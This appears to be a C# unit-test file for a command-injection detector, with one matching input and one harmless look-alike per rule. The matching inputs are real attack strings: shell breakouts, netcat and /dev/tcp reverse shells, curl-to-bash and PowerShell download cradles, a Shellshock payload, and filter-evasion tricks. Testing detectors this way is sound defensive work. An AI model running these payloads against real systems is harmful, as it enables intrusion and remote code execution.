using InfiniteSecurity.Detection;
using static InfiniteSecurity.Detection.UnitTests.Rules.RuleAssertions;

namespace InfiniteSecurity.Detection.UnitTests.Rules;

/// <summary>One positive and one look-alike per command-injection rule, named by rule id.</summary>
[TestFixture]
public sealed class ShellRuleTests
{
    private const string F = ThreatCategory.CommandInjection;

    [TestCase(";id", TestName = "cmd.breakout_command positive: semicolon then id")]
    [TestCase("x.test|uname -r", TestName = "cmd.breakout_command positive: value then pipe and uname")]
    [TestCase("9.9.9.9 && ls -l /srv", TestName = "cmd.breakout_command positive: address then and-and")]
    [TestCase("& dir c:\\", TestName = "cmd.breakout_command positive: cmd.exe dir of a drive")]
    [TestCase(";sleep 7", TestName = "cmd.breakout_command positive: timing probe")]
    [TestCase("<uname -a", TestName = "cmd.breakout_command positive: redirection before the command")]
    [TestCase("%0anslookup q1.oast.test", TestName = "cmd.breakout_command positive: encoded newline then callback")]
    public void Breakout_command(string input) => AssertFires(input, "cmd.breakout_command", F);

    [TestCase("Hello; find me later", TestName = "cmd.breakout_command look-alike: greeting then find")]
    [TestCase("step/loop & sleep methods", TestName = "cmd.breakout_command look-alike: prose ampersand")]
    [TestCase("&lt;HEAD&gt;&lt;b&gt;x", TestName = "cmd.breakout_command look-alike: HTML character references")]
    [TestCase("</html><HEAD> y", TestName = "cmd.breakout_command look-alike: markup")]
    public void Breakout_command_look_alike(string input) => AssertBenign(input, "cmd.breakout_command");

    [TestCase(";echo hi there", TestName = "cmd.breakout_name positive: echo with words")]
    public void Breakout_name(string input) => AssertFires(input, "cmd.breakout_name", F);

    [TestCase("zsh | tcsh | fish-shell", TestName = "cmd.breakout_name look-alike: list of shells")]
    public void Breakout_name_look_alike(string input) => AssertBenign(input, "cmd.breakout_name");

    [TestCase("lookup example.org; cat /etc/hosts", TestName = "cmd.chained_command positive: cat after words")]
    [TestCase("ok then | nc -e /bin/sh 10.9.8.7 99", TestName = "cmd.chained_command positive: netcat with exec")]
    [TestCase("word c: || dir || x", TestName = "cmd.chained_command positive: dir between double pipes")]
    [TestCase("q\n if [ 1 -ne 2 ]\n then sleep 3\n fi", TestName = "cmd.chained_command positive: command after a reserved word")]
    public void Chained_command(string input) => AssertFires(input, "cmd.chained_command", F);

    [TestCase("Ping me when you are back; cat pictures welcome", TestName = "cmd.chained_command look-alike: prose semicolon")]
    [TestCase("Kill -9 is harsh; use kill -15", TestName = "cmd.chained_command look-alike: prose about signals")]
    [TestCase("Work hard; then sleep 8 hours", TestName = "cmd.chained_command look-alike: sleep in a sentence")]
    [TestCase("see also & /etc/cron.daily/logs", TestName = "cmd.chained_command look-alike: path after an ampersand")]
    public void Chained_command_look_alike(string input) => AssertBenign(input, "cmd.chained_command");

    [TestCase("go on; frobnicate --all -q >/dev/null", TestName = "cmd.chained_invocation positive: unknown program with options and redirection")]
    public void Chained_invocation(string input) => AssertFires(input, "cmd.chained_invocation", F);

    [TestCase("default-src 'self'; style-src 'self' *.cdn.test *.img.test", TestName = "cmd.chained_invocation look-alike: CSP policy")]
    public void Chained_invocation_look_alike(string input) => AssertBenign(input, "cmd.chained_invocation");

    [TestCase("libfoo2 (>= 1.0), curl | wget", TestName = "cmd.chained_name weak: dependency alternatives")]
    [TestCase("ruby | lua | perl", TestName = "cmd.chained_name weak: list of interpreters")]
    public void Chained_name(string input) => AssertFiresWeakly(input, "cmd.chained_name");

    [TestCase("$(id)", TestName = "cmd.substitution positive: dollar paren id")]
    [TestCase("user`uname -a`", TestName = "cmd.substitution positive: backticks glued to a value")]
    [TestCase("print(`ls /`)", TestName = "cmd.substitution positive: backticks as a call argument")]
    [TestCase("$(echo aWQ= | base64 -d)", TestName = "cmd.substitution positive: pipeline inside")]
    [TestCase("<(id)", TestName = "cmd.substitution positive: process substitution")]
    public void Substitution(string input) => AssertFires(input, "cmd.substitution", F);

    [TestCase("Set $(XDG_CONFIG_HOME) to move the config", TestName = "cmd.substitution look-alike: make variable")]
    [TestCase("Run `ls -la` to list files", TestName = "cmd.substitution look-alike: markdown code span")]
    [TestCase("```sh npm i -S pkg ```", TestName = "cmd.substitution look-alike: markdown fence")]
    public void Substitution_look_alike(string input) => AssertBenign(input, "cmd.substitution");

    [TestCase("`cmd`", TestName = "cmd.substitution_name positive: bare known command in backticks")]
    public void Substitution_name(string input) => AssertFires(input, "cmd.substitution_name", F);

    [TestCase("Use `rm` with care; it deletes files", TestName = "cmd.substitution_name look-alike: code span in prose")]
    public void Substitution_name_look_alike(string input) => AssertBenign(input, "cmd.substitution_name");

    [TestCase("ls -l", TestName = "cmd.command_line positive: option")]
    [TestCase("grep -r token", TestName = "cmd.command_line positive: grep with an option")]
    public void Command_line(string input) => AssertFires(input, "cmd.command_line", F);

    [TestCase("cat /etc/hosts", TestName = "cmd.system_command_line positive: cat of a system file")]
    [TestCase("cat</etc/hosts", TestName = "cmd.system_command_line positive: input redirection")]
    [TestCase("echo `id`", TestName = "cmd.system_command_line positive: substituted argument")]
    public void System_command_line(string input) => AssertFires(input, "cmd.system_command_line", F);

    [TestCase("The file is at /usr/share/doc/foo", TestName = "cmd.system_command_line look-alike: prose with a path")]
    public void System_command_line_look_alike(string input) => AssertBenign(input, "cmd.system_command_line");

    [TestCase("Sleep 8 hours; eat well", TestName = "cmd.command_line look-alike: sentence starting with a command name")]
    [TestCase("type Box<T> = Promise<T> | T", TestName = "cmd.command_line look-alike: TypeScript generics")]
    public void Command_line_look_alike(string input) => AssertBenign(input, "cmd.command_line");

    [TestCase("uname", TestName = "cmd.recon_command positive: alone")]
    public void Recon_command(string input)
    {
        // A single word never leaves the benign fast path, so the rule is exercised after a blank.
        AssertFires(input + " ", "cmd.recon_command", F);
    }

    [TestCase("/getuid", TestName = "cmd.recon_command look-alike: URL path segment")]
    public void Recon_command_look_alike(string input) => AssertBenign(input, "cmd.recon_command");

    [TestCase(";w'h'o'am'i", TestName = "cmd.obfuscated_command positive: quote insertion")]
    [TestCase("|c\\at /etc/hosts", TestName = "cmd.obfuscated_command positive: backslash insertion")]
    [TestCase("a;who$@ami", TestName = "cmd.obfuscated_command positive: empty expansion")]
    [TestCase("&&wh$()oami", TestName = "cmd.obfuscated_command positive: empty substitution")]
    [TestCase(";who??i", TestName = "cmd.obfuscated_command positive: wildcard name")]
    [TestCase("cat$u /etc$u/hosts", TestName = "cmd.obfuscated_command positive: unset variable")]
    [TestCase("who``ami", TestName = "cmd.obfuscated_command positive: empty backticks")]
    public void Obfuscated_command(string input) => AssertFires(input, "cmd.obfuscated_command", F);

    [TestCase("pass'w'd", TestName = "cmd.obfuscated_command look-alike: quoted search term")]
    [TestCase("Rock 'n' roll & blues", TestName = "cmd.obfuscated_command look-alike: apostrophes in prose")]
    [TestCase("Who? Ping?", TestName = "cmd.obfuscated_command look-alike: questions")]
    public void Obfuscated_command_look_alike(string input) => AssertBenign(input, "cmd.obfuscated_command");

    [TestCase("/???/??t /???/h?st?", TestName = "cmd.glob_path positive: wildcard binary")]
    [TestCase(";/b?n/c?t /e?c/h*s", TestName = "cmd.glob_path positive: after separator")]
    public void Glob_path(string input) => AssertFires(input, input.StartsWith(';') ? "cmd.glob_path" : "cmd.obfuscated_command", F);

    [TestCase("text/html,*/*;q=0.8", TestName = "cmd.glob_path look-alike: Accept header")]
    public void Glob_path_look_alike(string input) => AssertBenign(input, "cmd.glob_path");

    [TestCase("{ls,-la,/srv}", TestName = "cmd.brace_expansion positive: at the start")]
    [TestCase(";{cat,/etc/hosts}", TestName = "cmd.brace_expansion positive: after a separator")]
    public void Brace_expansion(string input) => AssertFires(input, "cmd.brace_expansion", F);

    [TestCase("{\"cat\":1,\"ls\":2}", TestName = "cmd.brace_expansion look-alike: JSON keys")]
    public void Brace_expansion_look_alike(string input) => AssertBenign(input, "cmd.brace_expansion");

    [TestCase("cat${IFS}/etc/hosts", TestName = "cmd.ifs_separator positive: braced")]
    [TestCase("x;ls$IFS$9-la", TestName = "cmd.ifs_separator positive: positional suffix")]
    public void Ifs_separator(string input) => AssertFires(input, "cmd.ifs_separator", F);

    [TestCase("price is $5 IFS applies", TestName = "cmd.ifs_separator look-alike: dollar and IFS words")]
    public void Ifs_separator_look_alike(string input) => AssertBenign(input, "cmd.ifs_separator");

    [TestCase("sh -i >& /dev/tcp/10.2.3.4/9 0>&1", TestName = "cmd.reverse_shell positive: dev tcp")]
    public void Reverse_shell(string input) => AssertFires(input, "cmd.reverse_shell", F);

    [TestCase("The /dev directory holds tcp stats", TestName = "cmd.reverse_shell look-alike: prose about /dev")]
    public void Reverse_shell_look_alike(string input) => AssertBenign(input, "cmd.reverse_shell");

    [TestCase("v=whoami;$v", TestName = "cmd.variable_execution positive: assigned then run")]
    [TestCase("Y=$'\\x69\\x64';${Y}", TestName = "cmd.variable_execution positive: ANSI-C value run braced")]
    public void Variable_execution(string input) => AssertFires(input, "cmd.variable_execution", F);

    [TestCase("a=1&b=2&total=$a", TestName = "cmd.variable_execution look-alike: query string")]
    public void Variable_execution_look_alike(string input) => AssertBenign(input, "cmd.variable_execution");

    [TestCase("echo aWQ= | base64 -d | sh", TestName = "cmd.pipe_to_shell positive: base64 pipeline")]
    [TestCase("curl -s http://e.test/i | bash", TestName = "cmd.pipe_to_shell positive: download into bash")]
    [TestCase("echo id|$0", TestName = "cmd.pipe_to_shell positive: into the running shell")]
    public void Pipe_to_shell(string input) => AssertFires(input, "cmd.pipe_to_shell", F);

    [TestCase("bash | zsh | fish", TestName = "cmd.pipe_to_shell look-alike: list of shells")]
    public void Pipe_to_shell_look_alike(string input) => AssertBenign(input, "cmd.pipe_to_shell");

    [TestCase("$'\\x69\\x64'", TestName = "cmd.ansi_c_quoting positive: hex escapes")]
    public void Ansi_c_quoting(string input) => AssertFires(input, "cmd.ansi_c_quoting", F);

    [TestCase("costs $'12' in 'quotes'", TestName = "cmd.ansi_c_quoting look-alike: dollar before a quote")]
    public void Ansi_c_quoting_look_alike(string input) => AssertBenign(input, "cmd.ansi_c_quoting");

    [TestCase("() { :; }; /bin/id", TestName = "cmd.shellshock positive: function definition")]
    public void Shellshock(string input) => AssertFires(input, "cmd.shellshock", F);

    [TestCase("() => { return 1; }", TestName = "cmd.shellshock look-alike: arrow function")]
    public void Shellshock_look_alike(string input) => AssertBenign(input, "cmd.shellshock");

    [TestCase("IEX(New-Object Net.WebClient).DownloadString('http://e.test/a')", TestName = "cmd.powershell_expression positive: download cradle")]
    [TestCase("powershell -ExecutionPolicy Bypass -File x.ps1", TestName = "cmd.powershell_expression positive: policy bypass")]
    public void PowerShell_expression(string input) => AssertFires(input, "cmd.powershell_expression", F);

    [TestCase("PowerShell is a shell from Microsoft", TestName = "cmd.powershell_expression look-alike: prose")]
    public void PowerShell_expression_look_alike(string input) => AssertBenign(input, "cmd.powershell_expression");
}
